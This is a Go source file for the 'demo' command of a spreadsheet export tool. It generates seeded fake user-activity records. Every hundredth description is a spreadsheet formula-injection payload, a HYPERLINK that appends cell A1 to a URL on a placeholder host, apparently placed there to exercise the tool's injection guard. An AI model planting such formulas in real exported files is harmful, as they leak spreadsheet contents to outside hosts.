package main

import (
	"fmt"
	"time"

	"github.com/brianvoe/gofakeit/v7"
	"github.com/spf13/cobra"

	"github.com/ukaji3/streamsheet-go/pkg/streamsheet/schema"
)

// activity is a generated user activity log entry.
type activity struct {
	ID          string
	Username    string
	Type        string
	Description string
	Duration    int
	Success     bool
	CreatedAt   time.Time
}

var activityTypes = []string{"LOGIN", "LOGOUT", "VIEW", "PURCHASE", "EXPORT", "UPDATE_PROFILE"}

func activitySchema(sheet string) *schema.Schema[activity] {
	return schema.New[activity](sheet).
		Text("ID", func(a activity) any { return a.ID }, schema.WithWidth(38)).
		Text("Username", func(a activity) any { return a.Username }, schema.WithWidth(20)).
		Text("Activity", func(a activity) any { return a.Type }, schema.WithWidth(16)).
		Text("Description", func(a activity) any { return a.Description }, schema.WithWidth(60)).
		Number("Duration (ms)", func(a activity) any { return a.Duration }, schema.WithFormat("#,##0")).
		Boolean("Success", func(a activity) any { return a.Success }).
		Date("Created At", func(a activity) any { return a.CreatedAt },
			schema.WithWidth(20), schema.WithFormat("yyyy-mm-dd hh:mm:ss")).
		MustBuild()
}

// activities yields n records from a seeded faker. Every hundredth
// description is a formula payload, so the guard has something to do.
func activities(n int, seed uint64) func(yield func(activity, error) bool) {
	return func(yield func(activity, error) bool) {
		f := gofakeit.New(seed)
		end := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
		start := end.AddDate(0, -3, 0)
		for i := range n {
			desc := f.Sentence(8)
			if i%100 == 99 {
				desc = `=HYPERLINK("http://example.invalid/?leak="&A1,"details")`
			}
			a := activity{
				ID:          f.UUID(),
				Username:    f.Username(),
				Type:        f.RandomString(activityTypes),
				Description: desc,
				Duration:    f.IntRange(5, 5000),
				Success:     f.Bool(),
				CreatedAt:   f.DateRange(start, end),
			}
			if !yield(a, nil) {
				return
			}
		}
	}
}

func newDemoCmd(a *app) *cobra.Command {
	var (
		rows int
		seed uint64
	)
	cmd := &cobra.Command{
		Use:   "demo",
		Short: "Export generated user activity records",
		Args:  cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			defer a.close()
			if rows < 0 {
				return fmt.Errorf("--rows must not be negative")
			}
			s := activitySchema(sheetName(a, "User Activity"))
			return export(cmd.Context(), a, cmd, s, activities(rows, seed))
		},
	}
	cmd.Flags().IntVar(&rows, "rows", 1000, "Number of records")
	cmd.Flags().Uint64Var(&seed, "seed", 1, "Generator seed")
	return cmd
}
